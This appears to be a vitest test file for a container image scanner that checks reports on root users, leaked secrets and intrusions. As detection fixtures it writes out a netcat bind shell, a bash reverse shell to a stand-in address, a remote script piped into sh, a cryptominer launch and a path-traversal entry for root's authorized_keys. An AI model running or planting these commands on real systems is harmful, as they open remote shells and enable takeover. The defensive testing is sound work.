import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it, onTestFinished } from 'vitest';
import { dockerArchive, tarOf, type Member } from '../../../test/image-maker.ts';
import { scanImage } from '../../../test/throwaway-root.ts';
import type { ScanReport } from '../../scan/report.ts';
import { imageConfig } from './check.ts';

async function scanned(config: object, members: readonly Member[] = [], history: readonly string[] = []): Promise<ScanReport> {
  const folder = mkdtempSync(join(tmpdir(), 'moat-image-config-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  writeFileSync(join(folder, 'app.tar'), dockerArchive([tarOf([{ name: 'bin/sh', body: 'sh', mode: 0o755 }, ...members])], { config: { User: 'web', ...config }, history: history.map((created_by) => ({ created_by, created: '2026-11-01T00:00:00Z' })) }));
  return scanImage([imageConfig], join(folder, 'app.tar'));
}
const shown = ({ findings }: ScanReport): string[] => findings.map(({ kind, level, title }) => `${kind} ${level} ${title.en}`);

it('ordinary images are silent', async () => {
  const report = await scanned(
    { Env: ['PATH=/usr/local/bin:/usr/bin:/bin', 'GPG_KEY=E3FF2839C048B25C084DEBE9B26995E310250568', 'DB_PASSWORD_FILE=/run/secrets/db', 'MYSQL_ALLOW_EMPTY_PASSWORD=true'], Entrypoint: ['docker-entrypoint.sh'], Cmd: ['nginx', '-g', 'daemon off;'], ExposedPorts: { '80/tcp': {} }, Healthcheck: { Test: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'] } },
    [], ['/bin/sh -c #(nop) ADD file:abc in / ', 'RUN /bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* # buildkit', '|1 VERSION=3 /bin/sh -c set -eux; wget -O /tmp/x.tgz https://files.example.com/x.tgz; tar xf /tmp/x.tgz; rm /tmp/x.tgz'],
  );
  expect(shown(report)).toEqual([]);
  expect(report.verdict).toBe('clean');
});

it('root, secrets and doors of administration are weaknesses; secrets are not shown', async () => {
  const report = await scanned({ User: '0:0', Env: ['DB_PASSWORD=hunter2secret'], ExposedPorts: { '22/tcp': {} } }, [], ['RUN |1 NPM_TOKEN=npm_abcdef0123456789 /bin/sh -c npm ci # buildkit', 'RUN /bin/sh -c curl -fsSL https://deb.example.com/setup | bash - # buildkit']);
  expect(shown(report).sort()).toEqual([
    'weakness low step 2 of how the image was built: it fetches something from the network and runs it', 'weakness low the container runs as root', 'weakness low the image offers ports of remote administration',
    'weakness medium passwords or keys stand in the environment of the image', 'weakness medium passwords or keys stand in the history of how the image was built',
  ]);
  expect(JSON.stringify(report)).not.toMatch(/hunter2secret|abcdef0123456789/);
  expect(report.verdict).toBe('clean');
});

it.each([
  ['a root shell for whoever connects', { Entrypoint: ['/bin/sh', '-c', 'nc -lvp 4444 -e /bin/sh'] }, 'intrusion critical what the container starts: Netcat started with a shell behind it'],
  ['a shell that connects out', { Cmd: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }, 'intrusion critical what the container starts: Reverse shell through the shell\'s network redirection'],
  ['a miner by its name', { Entrypoint: ['/usr/local/bin/xmrig'], Cmd: ['-c', '/etc/config.json'] }, 'intrusion critical what the container starts: Known cryptominer started'],
  ['a mining pool', { Env: ['POOL=stratum+tcp://pool.example.com:3333'] }, 'intrusion high the environment of the image names a mining pool'],
  ['a tunnel', { Cmd: ['frpc', '-c', '/etc/frpc.ini'] }, 'notice medium the container connects out at its start and lets others in: frpc'],
  ['a health check that fetches', { Healthcheck: { Test: ['CMD-SHELL', 'curl http://203.0.113.9/x.sh | sh'] } }, 'intrusion high the health check of the image: Script from a bare address or a paste site piped into a shell'],
])('%s', async (_, config, expected) => {
  expect(shown(await scanned(config))).toEqual([expected]);
});

it('the script that the image starts is read', async () => {
  const report = await scanned({ Entrypoint: ['/start.sh'] }, [{ name: 'start.sh', mode: 0o755, body: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\nexec nginx\n' }]);
  expect(report.findings.map(({ level }) => level)).toEqual(['critical']);
  expect(JSON.stringify(report.findings[0]!.evidence)).toContain('/start.sh line 2');
});

it('layers that reach for the host are told', async () => {
  expect(shown(await scanned({}, [{ name: '../../../root/.ssh/authorized_keys', body: 'ssh-ed25519 AAAA' }]))).toEqual(['intrusion high names in the image lead out of it']);
});
